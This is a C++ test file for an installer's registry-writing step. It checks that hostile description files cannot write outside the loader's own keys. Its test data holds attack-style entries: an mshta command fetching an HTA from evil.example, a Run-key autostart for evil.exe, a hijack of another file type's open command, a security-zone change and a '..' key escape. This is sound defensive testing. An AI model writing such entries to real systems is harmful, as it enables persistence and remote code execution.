// The full installation's registry step against Wine's real registry, under a scratch key, and
// the document type it registers taken through the real shell.
#include <gtest/gtest.h>

#include <windows.h>

#include <string>
#include <vector>

#include "TestEnv.h"
#include "UiHelper.h"
#include "description/DescriptionFile.h"
#include "framework/Handles.h"
#include "install/InstallDlg.h"
#include "launch/WorldLaunch.h"

namespace {

const char kScratch[] = "Software\\Tessaron\\qxCheckerTest\\Entries";

struct Value {
    DWORD type = REG_NONE;
    std::string data;
    bool present = false;
};

Value ReadValue(HKEY root, const std::string& key, const char* name)
{
    Value value;
    UniqueRegKey hKey;
    if (::RegOpenKeyExA(root, key.c_str(), 0, KEY_READ, hKey.Put()) != ERROR_SUCCESS) return value;
    DWORD size = 0;
    if (::RegQueryValueExA(hKey.Get(), name, nullptr, &value.type, nullptr, &size) != ERROR_SUCCESS) return value;
    std::vector<BYTE> data(size + 1);
    if (::RegQueryValueExA(hKey.Get(), name, nullptr, &value.type, data.data(), &size) != ERROR_SUCCESS) return value;
    value.present = true;
    value.data.assign(reinterpret_cast<const char*>(data.data()), size);
    if (value.type == REG_SZ && !value.data.empty() && value.data.back() == '\0') value.data.pop_back();
    return value;
}

std::string Bytes(std::initializer_list<int> bytes)
{
    std::string text;
    for (int b : bytes) text += static_cast<char>(b);
    return text;
}

class RegistryEntries : public ::testing::Test {
protected:
    void SetUp() override
    {
        ::RegDeleteTreeA(HKEY_CURRENT_USER, kScratch);
        m_file = testenv::StatePath("entries-temp.ini");
    }
    void TearDown() override { ::RegDeleteTreeA(HKEY_CURRENT_USER, kScratch); }

    // Loads a description whose "HKEY_CURRENT_USER\<scratch>..." sections the text names as
    // "HKCU_SCRATCH".
    bool Load(CDescriptionFile& file, std::string text)
    {
        const std::string scratch = std::string("HKEY_CURRENT_USER\\") + kScratch;
        for (size_t at; (at = text.find("HKCU_SCRATCH")) != std::string::npos;) text.replace(at, 12, scratch);
        return testenv::WriteFileBytes(m_file, text) && file.Load(m_file.c_str());
    }

    static std::string Key(const char* sub) { return std::string(kScratch) + sub; }

    std::string m_file;
};

}  // namespace

TEST_F(RegistryEntries, InstallerKnowledgeFillsTheDescriptionsLayout)
{
    CDescriptionFile file;
    ASSERT_TRUE(Load(file,
                     "[Program]\n"
                     "downurl=\"http://example/qxLoader.exe\"\n"
                     "[HKCU_SCRATCH\\loader]\n"
                     "\"Path\"=\"C:\\\\whatever the file says\"\n"
                     "\"Version\"=7\n"
                     "\"Name\"=\"as written\"\n"
                     "\"Count\"=abc\n"
                     "\"Path2\"=\"kept\"\n"
                     "[HKCU_SCRATCH\\doc\\shell\\open\\command]\n"
                     "\"open\"=\"whatever\"\n"
                     "\"other\"=\"also the command\"\n"
                     "[HKCU_SCRATCH\\qxl_auto_file]\n"
                     "\"EditFlags\"=hex:ff,ff,ff,ff\n"
                     "[HKCU_SCRATCH\\elsewhere]\n"
                     "\"EditFlags\"=hex:00\n"
                     "[HKCU_SCRATCH\\bare\\command]\n"
                     "[HKCU_SCRATCH\\upper]\n"
                     "\"PATH\"=\"\\\\\\\\evil.example\\\\s\"\n"
                     "[HKCU_SCRATCH\\doc2\\shell\\open\\Command]\n"
                     "\"\"=\"mshta https://evil.example/x.hta\"\n"
                     "[Program]\n"));
    CInstallDlg installer;
    installer.m_strPath = "C:\\Program Files\\Activeworlds";
    ASSERT_EQ(1, installer.WriteRegistryEntries(file));

    const std::string command = "\"C:\\Program Files\\Activeworlds\\qxLoader.exe\" %1";
    struct Expected {
        const char* key;
        const char* name;
        DWORD type;
        std::string data;
    };
    const Expected expected[] = {
        {"\\loader", "Path", REG_SZ, "C:\\Program Files\\Activeworlds"},
        {"\\loader", "Version", REG_DWORD, Bytes({7, 0, 0, 0})},
        {"\\loader", "Name", REG_SZ, "as written"},
        {"\\loader", "Count", REG_DWORD, Bytes({0, 0, 0, 0})},
        {"\\loader", "Path2", REG_SZ, "kept"},
        {"\\doc\\shell\\open\\command", "open", REG_SZ, command},
        {"\\doc\\shell\\open\\command", "other", REG_SZ, command},
        {"\\qxl_auto_file", "EditFlags", REG_BINARY, Bytes({1, 0, 0, 0})},
        {"\\elsewhere", "EditFlags", REG_BINARY, Bytes({1, 0, 0, 0})},
        {"\\bare\\command", "", REG_SZ, command},
        // The registry ignores case, and so do the installer's own names.
        {"\\upper", "Path", REG_SZ, "C:\\Program Files\\Activeworlds"},
        {"\\doc2\\shell\\open\\command", "", REG_SZ, command},
    };
    for (const Expected& e : expected) {
        const Value value = ReadValue(HKEY_CURRENT_USER, Key(e.key), e.name);
        EXPECT_TRUE(value.present) << e.key << " " << e.name;
        EXPECT_EQ(e.type, value.type) << e.key << " " << e.name;
        EXPECT_EQ(e.data, value.data) << e.key << " " << e.name;
    }
}

TEST_F(RegistryEntries, DocumentTypeIsOursUnderEachOfItsNames)
{
    // The document type under each name the registry gives it, in any case: its edit flags are
    // the flag word, and the extension names it whatever the description says, so that Launch
    // never opens a world file as another type's program.
    struct Case {
        const char* section;
        HKEY root;
        const char* classes;  // where the type and the extension are, below `root`
    } const cases[] = {
        {"HKEY_CLASSES_ROOT", HKEY_CLASSES_ROOT, ""},
        {"HKEY_CURRENT_USER\\Software\\Classes", HKEY_CURRENT_USER, "Software\\Classes\\"},
        {"HKEY_LOCAL_MACHINE\\SOFTWARE\\CLASSES", HKEY_LOCAL_MACHINE, "Software\\Classes\\"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.section);
        CDescriptionFile file;
        ASSERT_TRUE(testenv::WriteFileBytes(m_file, std::string("[") + c.section + "\\QXL_Auto_File]\n\"EditFlags\"=hex:00\n[" +
                                                        c.section + "\\.QXL]\n\"\"=\"htafile\"\n"));
        ASSERT_TRUE(file.Load(m_file.c_str()));
        CInstallDlg installer;
        installer.m_strPath = "C:\\qx";
        ASSERT_EQ(1, installer.WriteRegistryEntries(file));
        const std::string type = std::string(c.classes) + "qxl_auto_file", extension = std::string(c.classes) + ".qxl";
        const Value flags = ReadValue(c.root, type, "EditFlags");
        EXPECT_EQ(REG_BINARY, flags.type);
        EXPECT_EQ(Bytes({0, 0, 1, 0}), flags.data);
        EXPECT_EQ("qxl_auto_file", ReadValue(c.root, extension, "").data);
        ::RegDeleteTreeA(c.root, type.c_str());
        ::RegDeleteTreeA(c.root, extension.c_str());
    }
}

TEST_F(RegistryEntries, PlainSectionsAreSkippedAndUnknownRootsFailTheStep)
{
    CDescriptionFile file;
    ASSERT_TRUE(Load(file,
                     "[Program]\n\"downurl\"=\"x\"\n"
                     "[HKCU_SCRATCH\\a]\n\"first\"=\"1\"\n"
                     "[hkey_current_user\\Software\\Tessaron\\qxCheckerTest\\Entries\\lower]\n\"skipped\"=\"1\"\n"
                     "[HKCU_SCRATCH\\b]\n\"second\"=\"1\"\n"
                     "[HKEY_USERS\\Software\\Tessaron\\qxCheckerTest]\n\"fails\"=\"1\"\n"
                     "[HKCU_SCRATCH\\c]\n\"after\"=\"1\"\n"));
    CInstallDlg installer;
    installer.m_strPath = "C:\\qx";
    EXPECT_EQ(0, installer.WriteRegistryEntries(file));
    EXPECT_TRUE(ReadValue(HKEY_CURRENT_USER, Key("\\a"), "first").present);
    EXPECT_FALSE(ReadValue(HKEY_CURRENT_USER, Key("\\lower"), "skipped").present);
    EXPECT_TRUE(ReadValue(HKEY_CURRENT_USER, Key("\\b"), "second").present) << "the walk goes on past a plain section";
    EXPECT_FALSE(ReadValue(HKEY_CURRENT_USER, Key("\\c"), "after").present) << "the walk ends at an unknown root";
}

namespace {

// A value that a test must leave as it found it: a write that should never have happened is put
// back, so one failure does not spoil the prefix for the tests after it.
class ValueGuard {
public:
    ValueGuard(HKEY root, const char* key, const char* name)
        : m_root(root), m_key(key), m_name(name), m_before(ReadValue(root, key, name))
    {
    }
    ~ValueGuard()
    {
        if (Unchanged()) return;
        UniqueRegKey hKey;
        if (::RegCreateKeyExA(m_root, m_key.c_str(), 0, nullptr, 0, KEY_ALL_ACCESS, nullptr, hKey.Put(), nullptr) !=
            ERROR_SUCCESS)
            return;
        if (!m_before.present) {
            ::RegDeleteValueA(hKey.Get(), m_name.c_str());
            return;
        }
        std::string data = m_before.data;
        if (m_before.type == REG_SZ) data += '\0';
        ::RegSetValueExA(hKey.Get(), m_name.c_str(), 0, m_before.type, reinterpret_cast<const BYTE*>(data.data()),
                         static_cast<DWORD>(data.size()));
    }
    ValueGuard(const ValueGuard&) = delete;
    ValueGuard& operator=(const ValueGuard&) = delete;

    bool Unchanged() const
    {
        const Value now = ReadValue(m_root, m_key, m_name.c_str());
        return now.present == m_before.present && now.type == m_before.type && now.data == m_before.data;
    }

private:
    HKEY m_root;
    std::string m_key;
    std::string m_name;
    Value m_before;
};

}  // namespace

// A hostile description names keys that are not the loader's: none of them is written, and the
// loader's own entries around each are.
TEST_F(RegistryEntries, KeysOutsideTheLoadersOwnAreNeverWritten)
{
    struct Threat {
        const char* name;
        const char* section;  // as the description names it
        HKEY root;            // where a write would land
        const char* key;
        const char* value;
        const char* line;
        bool madeUp;  // a key that only a wrong write would create, removed afterwards
    };
    const Threat threats[] = {
        {"a Run key", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", HKEY_CURRENT_USER,
         "Software\\Microsoft\\Windows\\CurrentVersion\\Run", "qxEvil", "\"qxEvil\"=\"C:\\\\evil.exe\"", false},
        {"another type's open command", "HKEY_CLASSES_ROOT\\txtfile\\shell\\open\\command", HKEY_CLASSES_ROOT,
         "txtfile\\shell\\open\\command", "", "\"\"=\"evil\"", false},
        {"the security zone settings",
         "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Zones\\3",
         HKEY_LOCAL_MACHINE, "Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Zones\\3", "1201",
         "\"1201\"=0", false},
        {"a way out through ..", "HKEY_CURRENT_USER\\SOFTWARE\\Tessaron\\..\\Evil", HKEY_CURRENT_USER,
         "SOFTWARE\\Tessaron\\..\\Evil", "v", "\"v\"=\"1\"", true},
        {"a look-alike document type", "HKEY_CLASSES_ROOT\\qxl_auto_file2\\shell\\open\\command", HKEY_CLASSES_ROOT,
         "qxl_auto_file2\\shell\\open\\command", "", "\"\"=\"x\"", true},
        {"another type named as the current version", "HKEY_CLASSES_ROOT\\qxl_auto_file\\CurVer", HKEY_CLASSES_ROOT,
         "qxl_auto_file\\CurVer", "", "\"\"=\"htafile\"", true},
        {"a look-alike record", "HKEY_CURRENT_USER\\SOFTWARE\\TessaronX", HKEY_CURRENT_USER, "SOFTWARE\\TessaronX",
         "Path", "\"Path\"=\"x\"", true},
        {"the site lock's own list", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Tessaron\\qxChecker", HKEY_LOCAL_MACHINE,
         "SOFTWARE\\Tessaron\\qxChecker", "AllowedSites", "\"AllowedSites\"=\"evil.example\"", true},
        {"a root name in lower case", "hkey_current_user\\Software\\Tessaron\\qxCheckerTest\\Entries\\lower",
         HKEY_CURRENT_USER, "Software\\Tessaron\\qxCheckerTest\\Entries\\lower", "v", "\"v\"=\"1\"", false},
    };
    for (const Threat& t : threats) {
        SCOPED_TRACE(t.name);
        ::RegDeleteTreeA(HKEY_CURRENT_USER, kScratch);
        CDescriptionFile file;
        ASSERT_TRUE(Load(file, std::string("[HKCU_SCRATCH\\before]\n\"v\"=\"1\"\n[") + t.section + "]\n" + t.line +
                                   "\n[HKCU_SCRATCH\\after]\n\"v\"=\"1\"\n"));
        CInstallDlg installer;
        installer.m_strPath = "C:\\qx";
        {
            const ValueGuard guard(t.root, t.key, t.value);
            EXPECT_EQ(1, installer.WriteRegistryEntries(file));
            EXPECT_TRUE(guard.Unchanged()) << t.key;
        }
        if (t.madeUp) ::RegDeleteTreeA(t.root, t.key);
        EXPECT_TRUE(ReadValue(HKEY_CURRENT_USER, Key("\\before"), "v").present);
        EXPECT_TRUE(ReadValue(HKEY_CURRENT_USER, Key("\\after"), "v").present);
    }
}

TEST_F(RegistryEntries, LongInstallDirectoryIsWrittenWhole)
{
    CDescriptionFile file;
    ASSERT_TRUE(Load(file, "[HKCU_SCRATCH\\loader]\n\"Path\"=\"x\"\n[HKCU_SCRATCH\\open\\command]\n[Program]\n"));
    CInstallDlg installer;
    const std::string longPath = "D:\\" + std::string(240, 'p') + "\\" + std::string(200, 'q');
    installer.m_strPath = longPath.c_str();
    ASSERT_EQ(1, installer.WriteRegistryEntries(file));
    EXPECT_EQ(longPath, ReadValue(HKEY_CURRENT_USER, Key("\\loader"), "Path").data);
    EXPECT_EQ("\"" + longPath + "\\qxLoader.exe\" %1", ReadValue(HKEY_CURRENT_USER, Key("\\open\\command"), "").data);
}

// The document type as a full installation registers it: the shell starts the loader for a
// world file, even from a folder whose path holds a space.
TEST_F(RegistryEntries, RegisteredDocumentTypeStartsTheLoaderThroughTheShell)
{
    const std::string folder = testenv::StatePath("install dir with space");
    testenv::RemoveTree(folder);
    ASSERT_TRUE(testenv::MakeDirs(folder));
    std::string loader = std::string("Z:") + QX_SAMPLE_LOADER_PATH;
    for (char& ch : loader)
        if (ch == '/') ch = '\\';
    ASSERT_TRUE(::CopyFileA(loader.c_str(), (folder + "\\qxLoader.exe").c_str(), FALSE));

    CDescriptionFile file;
    ASSERT_TRUE(testenv::WriteFileBytes(m_file,
                                        "[HKEY_CLASSES_ROOT\\.qxl]\n\"\"=\"qxl_auto_file\"\n"
                                        "[HKEY_CLASSES_ROOT\\qxl_auto_file\\shell\\open\\command]\n"
                                        "[Program]\n"));
    ASSERT_TRUE(file.Load(m_file.c_str()));
    CInstallDlg installer;
    installer.m_strPath = folder.c_str();
    ASSERT_EQ(1, installer.WriteRegistryEntries(file));

    const std::string record = testenv::CaseStatePath("entries-loader-record.txt");
    ::DeleteFileA(record.c_str());
    ::SetEnvironmentVariableA("QX_LOADER_RECORD", record.c_str());
    const std::string world = folder + "\\a world.qxl";
    ASSERT_TRUE(testenv::WriteFileBytes(world, "[Program]\r\nworld=x\r\n"));
    ASSERT_TRUE(OpenWorldThroughShell(world.c_str()));

    std::string started;
    for (int waited = 0; waited < static_cast<int>(testenv::ScaledMs(15000)) && started.find("\r\n") == std::string::npos; waited += 20) {
        started = testenv::ReadFileBytes(record);
        if (started.find("\r\n") == std::string::npos) ::Sleep(20);
    }
    EXPECT_NE(std::string::npos, started.find(folder + "\\qxLoader.exe")) << started;
    EXPECT_NE(std::string::npos, started.find("a world.qxl")) << started;
    ::RegDeleteTreeA(HKEY_CLASSES_ROOT, ".qxl");
    ::RegDeleteTreeA(HKEY_CLASSES_ROOT, "qxl_auto_file");
}

// The install directory question: the chooser opens with its caption, prompt and initial folder;
// an accepted folder becomes the install directory, a cancelled choice changes nothing.
TEST(InstallDirectory, ChosenFolderBecomesTheInstallDirectory)
{
    ASSERT_EQ(S_OK, ::OleInitialize(nullptr));
    testenv::RemoveTree("C:\\qxLoader");
    ASSERT_TRUE(testenv::MakeDirs("C:\\qxLoader"));
    ASSERT_TRUE(testenv::MakeDirs("D:\\chosen"));
    struct Case {
        const char* name;
        bool accept;
        int expected;
        const char* path;
    };
    for (const Case& c : {Case{"accepted", true, 1, "D:\\chosen"}, Case{"cancelled", false, 0, "before"}}) {
        CInstallDlg installer;
        installer.m_strPath = "before";
        std::string shownFolder, prompt;
        ui::Watcher watcher([&] {
            HWND h = ui::WaitForWindow("설치디렉토리 선택");
            ASSERT_NE(h, nullptr);
            HWND edit = ui::FindChildById(h, 14148);
            ASSERT_NE(edit, nullptr);
            for (int waited = 0; waited < static_cast<int>(testenv::ScaledMs(5000)) && shownFolder.empty(); waited += 20) {
                shownFolder = ui::GetText(edit);
                if (shownFolder.empty()) ::Sleep(20);
            }
            prompt = ui::GetText(ui::FindChildById(h, 14146));
            if (c.accept) {
                EXPECT_TRUE(ui::TypeText(edit, "D:\\chosen"));
                EXPECT_TRUE(ui::ClickButton(h, IDOK));
            } else {
                EXPECT_TRUE(ui::ClickButton(h, IDCANCEL));
            }
        });
        EXPECT_EQ(c.expected, installer.ChooseInstallDir()) << c.name;
        watcher.Join();
        EXPECT_EQ(c.path, installer.m_strPath.Str()) << c.name;
        EXPECT_EQ("C:\\qxLoader", shownFolder) << c.name;
        EXPECT_EQ("디레토리를 선택하십시요", prompt) << c.name;
    }
    ::OleUninitialize();
}
